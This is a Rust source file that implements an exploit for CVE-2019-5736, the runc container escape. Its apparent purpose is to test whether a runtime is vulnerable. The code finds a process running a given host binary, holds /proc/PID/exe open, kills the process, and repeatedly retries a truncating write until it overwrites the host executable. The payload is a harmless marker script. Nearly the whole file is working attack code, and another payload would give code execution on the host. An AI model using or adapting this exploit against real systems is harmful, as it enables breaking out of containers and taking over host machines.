//! CVE-2019-5736: whoever runs a program of the machine in a container shows it the file, by `/proc/PID/exe`. Held open, it can be
//! written once nobody runs it any more, and the machine runs what was written the next time.

use std::{
    fs::{self, File, Metadata, OpenOptions},
    io::{self, ErrorKind, Write},
    os::{fd::AsRawFd, unix::fs::MetadataExt},
    thread,
    time::Duration,
};

use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};

use crate::Outcome;

/// What is written.
const OURS: &[u8] = b"#!/bin/sh\necho ours\n";
/// How often a program that is still run is tried again.
const ATTEMPTS: u32 = 500;

/// Looks for a process that runs the program that is given by the numbers of its device and file, as in `2049:17`, and writes to it. No
/// other is touched: where the attack works, it is the machine's file that is written, and who else runs something in the container is
/// not to be hit.
pub(crate) fn overwrite(arguments: &[String]) -> Outcome {
    let wanted = arguments.first().ok_or("which program?")?;
    let processes = fs::read_dir("/proc").map_err(|error| format!("/proc: {error}"))?;
    for process in processes.flatten() {
        let name = process.file_name();
        let Some(pid) = name.to_str().and_then(|name| name.parse().ok()) else { continue };
        let Ok(program) = fs::read_link(process.path().join("exe")) else { continue };
        let Ok(file) = fs::metadata(process.path().join("exe")) else { continue };
        if numbers(&file) != *wanted {
            continue;
        }
        let place = program.display();
        return match write_to_program_of(Pid::from_raw(pid), wanted) {
            Ok(()) => Ok(format!("the program {place} is ours now")),
            Err(error) => Err(format!("the program {place} cannot be written: {error}")),
        };
    }
    Err("nobody runs that program".to_owned())
}

fn write_to_program_of(pid: Pid, wanted: &str) -> io::Result<()> {
    let held = File::open(format!("/proc/{pid}/exe"))?;
    // It may have begun to run another program since.
    if numbers(&held.metadata()?) != wanted {
        return Err(ErrorKind::NotFound.into());
    }
    let again = format!("/proc/self/fd/{}", held.as_raw_fd());
    let mut last = ErrorKind::ExecutableFileBusy.into();
    for _ in 0..ATTEMPTS {
        match OpenOptions::new().write(true).truncate(true).open(&again) {
            Ok(mut file) => return file.write_all(OURS),
            Err(error) if error.kind() == ErrorKind::ExecutableFileBusy => {
                let _ = kill(pid, Signal::SIGKILL);
                last = error;
                thread::sleep(Duration::from_millis(10));
            }
            Err(error) => return Err(error),
        }
    }
    Err(last)
}

fn numbers(file: &Metadata) -> String {
    format!("{}:{}", file.dev(), file.ino())
}
